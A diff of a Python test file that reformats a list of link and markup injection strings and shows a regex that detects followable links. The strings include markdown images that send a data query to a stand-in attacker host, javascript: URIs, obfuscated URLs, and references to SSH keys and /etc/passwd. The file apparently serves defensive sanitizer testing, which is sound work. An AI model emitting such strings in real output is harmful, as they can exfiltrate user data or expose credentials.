@@ -55,11 +55,13 @@ def test_the_normal_form_is_one(text: str, unseen: str) -> None:
 
 
 LIVE = [
-    "![](http://evil.example/?d=1)", "![x][a]", "[x](//evil.example/a)", "[a]: http://evil.example", "<http://evil.example>",
-    "<img src=http://evil.example/a.png>", "</style><link rel=x href=//evil.example/y>", "[x](javascript:alert(1))",
-    "JaVaScRiPt:alert(1)", "data:text/html;base64,AAAA", "ht\u200btp://evil.example/x", "www.evil.example", "evil.example/?d=x",
-    "@../../other/CLAUDE.md", "see (@~/.ssh/id)", "slack://open", "https\uff1a//evil.example/", "file:///etc/passwd", "<@U1>",
-    "mailto:a@evil.example", "\\\\evil.example\\share", "!![[a](b)](c)", "a\u202eb\u2066c", "tel:+49", "vbscript : x",
+    "![](http://evil.example/?d=1)", "![x][a]", "[x](//evil.example/a)", "[a]: http://evil.example",
+    "<http://evil.example>", "<img src=http://evil.example/a.png>", "</style><link rel=x href=//evil.example/y>",
+    "[x](javascript:alert(1))", "JaVaScRiPt:alert(1)", "data:text/html;base64,AAAA",
+    "ht\u200btp://evil.example/x", "www.evil.example", "evil.example/?d=x", "@../../other/CLAUDE.md",
+    "see (@~/.ssh/id)", "slack://open", "https\uff1a//evil.example/", "file:///etc/passwd", "<@U1>",
+    "mailto:a@evil.example", "\\\\evil.example\\share", "!![[a](b)](c)", "a\u202eb\u2066c", "tel:+49",
+    "vbscript : x",
 ]  # fmt: skip
 FOLLOWED = re.compile(
     r"!\[|\]\(|\]:|<[a-z/!@]|\b(?:https?|ftp|file|javascript|vbscript)\s*:|:(?=//)|www\.|(?<![\w\[])@[\w./~]"
